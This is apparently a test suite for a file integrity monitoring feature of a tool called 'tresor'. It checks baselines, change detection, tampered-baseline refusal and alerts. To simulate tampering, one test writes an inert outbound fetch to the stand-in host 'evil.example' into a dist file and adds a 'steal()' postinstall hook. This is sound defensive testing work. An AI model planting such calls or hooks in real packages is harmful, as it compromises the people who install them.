import assert from 'node:assert/strict';
import { chmodSync, copyFileSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { buildCore } from '../../../src/app.js';
import { loadConfig } from '../../../src/config/index.js';
import { operatorRealm } from '../../../src/identity/index.js';
import { tresorHere } from '../../support/cli.js';
import { makeInstall } from '../../support/fim-install.js';
import { engines, startTestApp, type TestApp } from '../../support/harness.js';

async function operatorEvents(dataDir: string, action: string) {
  const core = await buildCore(loadConfig({ env: {}, overrides: { dataDir } }));
  try {
    return await core.audit.query(operatorRealm, { actions: [action], count: 50 });
  } finally {
    await core.audit.close();
    await core.storage.close();
  }
}

describe('file integrity monitoring: tresor fim', () => {
  let root: string;
  let install: string;
  let dataDir: string;
  let configFile: string;
  const fim = (sub: string, ...more: string[]) => tresorHere(['fim', sub, '--data-dir', dataDir, '--config', configFile, ...more]);

  before(() => {
    root = mkdtempSync(join(tmpdir(), 'tresor-fim-'));
    install = makeInstall(root);
    dataDir = join(root, 'data');
    configFile = join(root, 'tresor.json');
    writeFileSync(configFile, JSON.stringify({ fim: { installDir: install }, server: { tls: { enabled: false } } }));
  });
  after(() => rmSync(root, { recursive: true, force: true }));

  it('check without a baseline exits 2 and says how to make one', async () => {
    const run = await fim('check');
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /no file integrity baseline at .*fim-baseline\.json; make one with `tresor fim baseline`/);
  });

  it('baseline signs the install tree and the configuration file; check then finds nothing (exit 0); both audited', async () => {
    const made = await fim('baseline');
    assert.equal(made.code, 0, made.stderr);
    assert.match(made.stdout, /^baseline of 9 files written to .*fim-baseline\.json in [\d.]+ s, signed\n$/);
    const text = readFileSync(join(dataDir, 'fim-baseline.json'), 'utf8');
    for (const path of [join(install, 'dist', 'main.js'), join(install, 'node_modules', 'dep', 'index.js'), join(install, 'package-lock.json'), join(install, 'docs', 'runbooks', 'fim.changed.md'), configFile]) assert.ok(text.includes(JSON.stringify(path)), path);
    // The development master key ring lives in the data directory: presence, mode, owner, size only.
    assert.match(text, /"path":"[^"]*master-key\.json","sha256":null,"size":\d+,"mode":"100600"/);
    const clean = await fim('check');
    assert.equal(clean.code, 0, clean.stderr);
    assert.match(clean.stdout, /^no change in 9 files since the baseline of \d{4}-\d\d-\d\dT/);

    const baselined = await operatorEvents(dataDir, 'fim.baselined');
    assert.equal(baselined.length, 1);
    assert.match(baselined[0]?.actor.id ?? '', /^cli:/);
    assert.equal(baselined[0]?.detail, '9 files');
    const checked = await operatorEvents(dataDir, 'fim.checked');
    assert.deepEqual(checked.map((e) => [e.outcome, e.detail]), [['success', '0 change(s) in 9 files'], ['failure', 'fim-baseline-missing']]);
  });

  it('a modified, an added, a removed file and a changed mode are one change each, naming the file (exit 1)', async () => {
    writeFileSync(join(install, 'dist', 'records', 'records.js'), 'export const records = 1; fetch("https://evil.example");\n');
    writeFileSync(join(install, 'node_modules', 'dep', 'postinstall.js'), 'steal();\n');
    unlinkSync(join(install, 'node_modules', 'dep', 'README.md'));
    chmodSync(join(install, 'package.json'), 0o666);
    const run = await fim('check');
    assert.equal(run.code, 1, run.stderr);
    const lines = run.stdout.trimEnd().split('\n');
    assert.deepEqual(lines.slice(0, -1), [
      `modified     ${join(install, 'dist', 'records', 'records.js')}`,
      `removed      ${join(install, 'node_modules', 'dep', 'README.md')}`,
      `added        ${join(install, 'node_modules', 'dep', 'postinstall.js')}`,
      `mode-changed ${join(install, 'package.json')}`,
    ].sort((a, b) => (a.slice(13) < b.slice(13) ? -1 : 1)));
    assert.match(lines.at(-1) ?? '', /^4 change\(s\) since the baseline of .*: find out why before you run `tresor fim baseline`/);
    const json = await fim('check', '--json');
    assert.equal(json.code, 1);
    const report = JSON.parse(json.stdout) as { changes: Array<{ path: string; change: string }> };
    assert.deepEqual(report.changes.map((c) => c.change).sort(), ['added', 'mode-changed', 'modified', 'removed']);
  });

  it('a tampered baseline, or one signed by another deployment, is refused with exit 2, never "no change"', async () => {
    const file = join(dataDir, 'fim-baseline.json');
    const original = readFileSync(file, 'utf8');
    // Someone hides the change by writing the new file's hash into the baseline.
    const { createHash } = await import('node:crypto');
    const changedHash = createHash('sha256').update(readFileSync(join(install, 'dist', 'records', 'records.js'))).digest('hex');
    const tampered = original.replace(/("path":"[^"]*records\.js","sha256":")[0-9a-f]{64}/, `$1${changedHash}`);
    assert.notEqual(tampered, original);
    writeFileSync(file, tampered);
    const run = await fim('check');
    assert.equal(run.code, 2, run.stdout);
    assert.match(run.stderr, /the file integrity baseline is not valid: its signature does not verify/);
    assert.equal(run.stdout, '');

    // A baseline made (and validly signed) by another deployment with the same files.
    const otherData = join(root, 'other-data');
    const other = await tresorHere(['fim', 'baseline', '--data-dir', otherData, '--config', configFile]);
    assert.equal(other.code, 0, other.stderr);
    copyFileSync(join(otherData, 'fim-baseline.json'), file);
    const foreign = await fim('check');
    assert.equal(foreign.code, 2);
    assert.match(foreign.stderr, /not valid: its signature does not verify/);

    writeFileSync(file, original);
    assert.equal((await fim('check')).code, 1, 'the real baseline still shows the changes');
  });

  it('re-baselining accepts the files as they are (audited), and `tresor help fim` lists both commands', async () => {
    assert.equal((await fim('baseline')).code, 0);
    assert.equal((await fim('check')).code, 0);
    assert.equal((await operatorEvents(dataDir, 'fim.baselined')).length, 2);
    const help = await tresorHere(['help', 'fim']);
    assert.match(help.stdout, /tresor fim baseline/);
    assert.match(help.stdout, /tresor fim check \[--json\]/);
    assert.equal((await tresorHere(['fim', 'verify', '--data-dir', dataDir])).code, 2);
  });
});

for (const engine of engines()) describe(`file integrity monitoring: the server [${engine}]`, () => {
  let root: string;
  let install: string;
  let t: TestApp;
  const logged = (event: string) => t.logs.map((line) => JSON.parse(line) as Record<string, unknown>).filter((l) => l['event'] === event);
  async function until<T>(what: () => T | undefined): Promise<T> {
    for (;;) {
      const found = what();
      if (found !== undefined) return found;
      await delay(20);
    }
  }

  before(async () => {
    root = mkdtempSync(join(tmpdir(), 'tresor-fim-server-'));
    install = makeInstall(root);
    t = await startTestApp(engine, { fim: { enabled: true, installDir: install } }, { fimSchedule: { firstAfterMs: 1, everyMs: 30 } });
  });
  after(async () => {
    await t.app.close();
    rmSync(root, { recursive: true, force: true });
  });

  // `until` waits for the background check; a check that never comes fails here, not by hanging.
  it('makes a baseline at the first start (audited), then reports each changed file; a baseline deleted later is reported, not replaced', { timeout: 60_000 }, async () => {
    await until(() => logged('fim.baselined')[0]);
    const events = await t.app.audit.query(operatorRealm, { actions: ['fim.baselined'], count: 5 });
    assert.equal(events.length, 1);
    assert.equal(events[0]?.actor.id, 'system:fim');
    assert.match(events[0]?.detail ?? '', /^\d+ files \(first start\)$/);

    writeFileSync(join(install, 'dist', 'main.js'), 'console.log("changed");\n');
    const changed = await until(() => logged('fim.changed').find((l) => l['path'] === join(install, 'dist', 'main.js')));
    assert.equal(changed['change'], 'modified');
    assert.equal(logged('fim.changed').filter((l) => l['path'] !== join(install, 'dist', 'main.js')).length, 0, 'nothing else changed');
    // One platform alert for the file, however many checks saw it (joined, counted); the path, never its contents.
    await until(() => logged('fim.changed').filter((l) => l['path'] === join(install, 'dist', 'main.js')).length >= 2 || undefined);
    const alerts = await t.app.alerts.list(operatorRealm, { rule: 'fim.changed' });
    assert.deepEqual(alerts.map((a) => [a.subject, a.severity, a.state, a.summary]), [[join(install, 'dist', 'main.js'), 'high', 'open', `${join(install, 'dist', 'main.js')} was modified since the file integrity baseline`]]);
    assert.ok((alerts[0]?.count ?? 0) >= 1);
    assert.doesNotMatch(JSON.stringify(alerts), /console\.log/);

    unlinkSync(join(t.dataDir, 'fim-baseline.json'));
    const refused = await until(() => logged('fim.changed').find((l) => l['code'] === 'fim-baseline-missing'));
    assert.equal(refused['file'], join(t.dataDir, 'fim-baseline.json'));
    // A later round too: still reported, still not re-made.
    await until(() => logged('fim.changed').filter((l) => l['code'] === 'fim-baseline-missing').length >= 2 || undefined);
    assert.throws(() => readFileSync(join(t.dataDir, 'fim-baseline.json')), /ENOENT/, 'never silently re-made');
    assert.equal((await t.app.audit.query(operatorRealm, { actions: ['fim.baselined'], count: 5 })).length, 1);
    const baselineAlert = (await t.app.alerts.list(operatorRealm, { rule: 'fim.changed' })).find((a) => a.subject === join(t.dataDir, 'fim-baseline.json'));
    assert.equal(baselineAlert?.severity, 'high');
    assert.match(baselineAlert?.summary ?? '', /is missing: no file could be checked/);
  });
});
